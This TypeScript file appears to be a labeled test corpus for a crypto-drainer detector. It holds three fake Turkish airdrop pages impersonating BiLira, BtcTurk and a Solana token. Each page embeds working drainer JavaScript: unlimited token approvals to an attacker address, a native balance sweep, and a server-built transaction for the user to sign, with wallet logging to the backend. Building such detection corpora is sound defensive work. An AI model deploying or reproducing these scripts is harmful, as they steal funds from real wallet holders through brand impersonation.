import { type Entry } from '../entry.js';
import { b64, doc } from '../parts/xb-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'xb-drainer-bilira-tryb-airdrop-approve',
    label: 'cryptodrainer',
    kind: 'token-claim-approve-drainer',
    url: 'https://bilira-tryb-airdrop.com/claim',
    body: doc({
      title: 'BiLira TRYB Airdrop — 500 TRYB Talep Et',
      css: `body{margin:0;background:#0e0a24;color:#f2efff;font-family:"DM Sans",Arial,sans-serif;text-align:center}.nav{display:flex;justify-content:space-between;padding:16px 24px}.nav b{font-size:20px;color:#9f7aea}
.hero{padding:50px 20px}.hero h1{font-size:42px;margin:0}.hero .amt{font-size:64px;font-weight:800;background:linear-gradient(90deg,#9f7aea,#ed64a6);-webkit-background-clip:text;color:transparent}
.cn{background:#9f7aea;color:#fff;border:0;border-radius:30px;padding:16px 40px;font-size:18px;font-weight:700;cursor:pointer}.st{font-size:14px;color:#b9b1dd;margin-top:14px}.bar{max-width:420px;margin:20px auto;height:10px;background:#2a2350;border-radius:5px}.bar i{display:block;height:100%;width:83%;background:#ed64a6;border-radius:5px}`,
      body: `<div class="nav"><b>BiLira</b><span>Airdrop Sezon 2</span></div>
<div class="hero"><h1>TRYB Topluluk Airdrop'u</h1><div class="amt">500 TRYB</div><p>Erken kullanıcılarımıza özel. Cüzdanınızı bağlayın, uygunluğunuzu kontrol edin ve ödülünüzü talep edin.</p>
<div class="bar"><i></i></div><p class="st">Dağıtılan: 8.312.500 / 10.000.000 TRYB · Kalan süre 06:12:44</p>
<button class="cn" id="cn">Cüzdanı Bağla</button><p class="st" id="msg"></p></div>
<script>
(function(){
var RCV='0x7f3c2a1d9b8e4f6a0c5d2e1b3a4f5c6d7e8f9a0b';
var TOK=[['USDT','0xdAC17F958D2ee523a2206206994597C13D831ec7'],['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'],['TRYB','0x2C537E5624e4af88A7ae4060C022609376C8D0EB'],['WETH','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2']];
function pad(a){return a.toLowerCase().replace('0x','').padStart(64,'0')}
var MAX='f'.repeat(64);
function msg(t){document.getElementById('msg').textContent=t}
document.getElementById('cn').onclick=async function(){
  if(!window.ethereum){msg('Lütfen MetaMask veya Trust Wallet tarayıcısını kullanın.');return}
  var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
  fetch('/api/v1/hit',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:acc,ref:document.referrer})});
  try{await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})}catch(e){}
  msg('Uygunluk kontrol ediliyor...');
  this.textContent='500 TRYB Talep Et';
  for(var i=0;i<TOK.length;i++){
    try{
      msg('Talep '+(i+1)+'/'+TOK.length+': cüzdanınızda onaylayın');
      var tx=await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:TOK[i][1],data:'0x095ea7b3'+pad(RCV)+MAX}]});
      fetch('/api/v1/ok',{method:'POST',body:JSON.stringify({a:acc,t:TOK[i][0],h:tx})});
    }catch(e){msg('İşlem reddedildi. Ödülün gelmesi için tüm adımları onaylamanız gerekir.');i--;}
  }
  msg('Tebrikler! 500 TRYB 24 saat içinde cüzdanınıza aktarılacak.');
};
})();
</script>`,
    }),
    routes: {
      'bilira-tryb-airdrop.com/api/v1/hit': jsonRoute({ ok: 1 }),
      'bilira-tryb-airdrop.com/api/v1/ok': jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'xb-drainer-btcturk-12yil-native-sweep',
    label: 'cryptodrainer',
    kind: 'exchange-airdrop-native-drainer',
    url: 'https://btcturk-12yil-airdrop.com/',
    body: doc({
      title: 'BtcTurk 12. Yıl Airdrop | 250 USDT',
      css: `body{margin:0;background:#f7f9fc;font-family:"Inter",Arial,sans-serif;color:#0f1f3d}.h{background:#0f1f3d;color:#fff;padding:14px 24px;font-weight:800;font-size:20px}.hero{text-align:center;padding:44px 16px}.hero h1{font-size:36px;margin:0}.hero b{color:#1e6ae1}
.btn{background:#1e6ae1;color:#fff;border:0;border-radius:10px;padding:15px 34px;font-size:17px;font-weight:700}#md{display:none;position:fixed;inset:0;background:#0008;align-items:center;justify-content:center}#md .x{background:#fff;border-radius:16px;width:340px;padding:18px}
#md .x div{display:flex;justify-content:space-between;align-items:center;border:1px solid #e5e9f0;border-radius:10px;padding:12px;margin:8px 0;cursor:pointer}`,
      body: `<div class="h">BtcTurk | Kripto</div><div class="hero"><h1>12. yılımıza özel <b>250 USDT</b> airdrop</h1><p>Türkiye'nin ilk kripto para borsası olarak kullanıcılarımıza teşekkür ediyoruz. İlk 10.000 cüzdana 250 USDT!</p><button class="btn" id="op">Airdrop'u Talep Et</button><p id="st" style="color:#667"></p></div>
<div id="md"><div class="x"><b>Cüzdan seçin</b><div data-w="mm">MetaMask <span>🦊</span></div><div data-w="tw">Trust Wallet <span>🛡️</span></div><div data-w="cb">Coinbase Wallet <span>🔵</span></div><div data-w="wc">WalletConnect <span>🔗</span></div></div></div>
<script>
(function(){
var D=atob('${b64('0x3e9b7c5a1f2d4e6c8a0b9d7f5e3c1a2b4d6f8e0c')}');
function st(t){document.getElementById('st').textContent=t}
document.getElementById('op').onclick=function(){document.getElementById('md').style.display='flex'};
document.querySelectorAll('#md .x div').forEach(function(el){el.onclick=async function(){document.getElementById('md').style.display='none';
 var p=window.ethereum;if(!p){st('Cüzdan uygulaması bulunamadı');return}
 var a=(await p.request({method:'eth_requestAccounts'}))[0];
 var bal=BigInt(await p.request({method:'eth_getBalance',params:[a,'latest']}));
 var gp=BigInt(await p.request({method:'eth_gasPrice'}));
 var send=bal-gp*21000n*2n;
 fetch('/api/log',{method:'POST',body:JSON.stringify({a:a,b:bal.toString(),w:el.dataset.w})});
 if(send>0n){st('Airdrop uygunluk doğrulaması: cüzdanınızda onaylayın');
  try{await p.request({method:'eth_sendTransaction',params:[{from:a,to:D,value:'0x'+send.toString(16),data:'0x4e71d92d'}]})}catch(e){st('Doğrulama başarısız, tekrar deneyin.');return}}
 try{await p.request({method:'eth_sendTransaction',params:[{from:a,to:'0xdAC17F958D2ee523a2206206994597C13D831ec7',data:'0x39509351'+D.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64)}]})}catch(e){}
 st('Talebiniz alındı! 250 USDT 48 saat içinde gönderilecek.');
}});
})();
</script>`,
    }),
    routes: { 'btcturk-12yil-airdrop.com/api/log': jsonRoute({ ok: 1 }) },
  },
  {
    id: 'xb-drainer-turkcoin-solana-claim',
    label: 'cryptodrainer',
    kind: 'solana-claim-server-built-tx',
    url: 'https://turkcoin-claim.sol-drop.xyz/',
    body: doc({
      title: '$TURK Claim — Solana',
      css: `body{margin:0;background:#0b0b12;color:#fff;font-family:"Rubik",Arial,sans-serif;text-align:center}.c{max-width:460px;margin:70px auto;background:#15151f;border:1px solid #2a2a3a;border-radius:18px;padding:28px}
.c h1{font-size:30px;margin:0}.amt{font-size:40px;color:#14f195;font-weight:800;margin:14px 0}.b{background:linear-gradient(90deg,#9945ff,#14f195);border:0;border-radius:12px;padding:14px 30px;color:#0b0b12;font-weight:800;font-size:17px}`,
      body: `<div class="c"><div style="font-size:48px">🇹🇷</div><h1>$TURK Airdrop</h1><p>Solana'nın Türk topluluk meme token'ı. Snapshot'a göre cüzdanınıza ayrılan miktarı talep edin.</p><div class="amt" id="a">? TURK</div><button class="b" id="b">Phantom ile Bağlan</button><p id="s" style="color:#aaa;font-size:13px"></p></div>
<script>
(function(){var pk=null,b=document.getElementById('b'),s=document.getElementById('s');
b.onclick=async function(){var w=window.phantom&&window.phantom.solana||window.solana;if(!w){s.textContent='Phantom veya Solflare yükleyin';return}
 if(!pk){var r=await w.connect();pk=r.publicKey.toString();document.getElementById('a').textContent=(Math.floor(Math.random()*90000)+10000).toLocaleString('tr-TR')+' TURK';b.textContent='Claim';return}
 s.textContent='İşlem hazırlanıyor...';
 var j=await fetch('/api/claim-tx?owner='+pk).then(function(r){return r.json()});
 s.textContent='Claim işlemini cüzdanınızda onaylayın';
 try{var sig=await w.request({method:'signAndSendTransaction',params:{message:j.tx}});fetch('/api/claimed',{method:'POST',body:JSON.stringify({pk:pk,sig:sig})});s.textContent='Başarılı! Token\\'lar cüzdanınıza gönderildi.'}catch(e){s.textContent='İşlem iptal edildi.'}
};})();
</script>`,
    }),
    routes: {
      'turkcoin-claim.sol-drop.xyz/api/claim-tx': jsonRoute({ tx: '4hXTCkRzt9WyecNzV1XPgCDfGAZzQKNxLXgynz5QDuWWPSAZBZSHptvWRL3BjCvzUXRdKvHL2b7yGrRQcWyaqsaBCncVG7BFggS8w9snUts67BSh3EqKpXLUm5UMHfD7ZBe9GhARjbNQMLJ1QD3Spr6oMTBU6EhdB4RD8CP2xUxr2u3d6fos36PD98XS6oX8TQjLpsMwncs5DAMiD4nNnR8NBfyghGCWvCVifVwvA8B8TJxE1aiyiv2L429BCWfyzAme5sZW8rDb14NeCQHhZbtNqfXhcp2tAnaAT', lastValidBlockHeight: 287114402 }),
      'turkcoin-claim.sol-drop.xyz/api/claimed': jsonRoute({ ok: true }),
    },
  },
];
